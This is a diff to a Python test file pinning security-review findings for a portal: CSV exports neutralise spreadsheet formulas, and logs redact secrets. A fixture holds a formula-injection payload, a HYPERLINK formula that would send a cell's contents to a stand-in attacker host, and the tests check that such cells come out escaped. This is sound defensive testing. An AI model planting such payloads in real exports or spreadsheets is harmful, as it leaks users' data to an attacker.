@@ -1,16 +1,51 @@
-"""Findings of a security review, each pinned by a test: the configured log handler redacts
-secrets from messages and tracebacks alike."""
+"""Findings of a security review, each pinned by a test: formulas in CSV exports are neutralised,
+and the configured log handler redacts secrets from messages and tracebacks alike."""
 
 from __future__ import annotations
 
+import csv
 import io
 import logging
 
 import pytest
 
 from portal.logging import RedactSecrets
+from tests.people import make_person
+from tests.test_reports import admin_of, client_for, report_url, synced
 
+WAITING_ROOM = "meeting.waiting_room.on"
+FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
 CLIENT_SECRET = "zoom-client-secret-for-the-redaction-test"
+
+
+# --- CSV exports ----------------------------------------------------------------------------
+@pytest.fixture
+def formula_host(db):
+    host = make_person("+1-formula@utoronto.ca", first_name=FORMULA, last_name="")
+    synced(host, 40, failing=[WAITING_ROOM])
+    return host
+
+
+def _rows(response) -> list[dict[str, str]]:
+    body = b"".join(response.streaming_content) if response.streaming else response.content
+    return list(csv.DictReader(io.StringIO(body.decode())))
+
+
+def test_host_csv_neutralises_cells_that_a_spreadsheet_would_run_as_formulas(formula_host):
+    response = client_for(admin_of("Physics")).get(report_url("report_csv"))
+
+    (row,) = [row for row in _rows(response) if row["name"].endswith(FORMULA)]
+    assert row["name"] == "'" + FORMULA
+    assert row["email"] == "'+1-formula@utoronto.ca"
+    assert row["score"] == "40"  # numbers stay numbers
+
+
+def test_action_plan_csv_neutralises_formulas_too(formula_host):
+    response = client_for(admin_of("Physics")).get(report_url("report_action_plan"))
+
+    rows = _rows(response)
+    assert "'+1-formula@utoronto.ca" in {row["email"] for row in rows}
+    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())
 
 
 # --- Logs: the configured handler redacts secrets -------------------------------------------
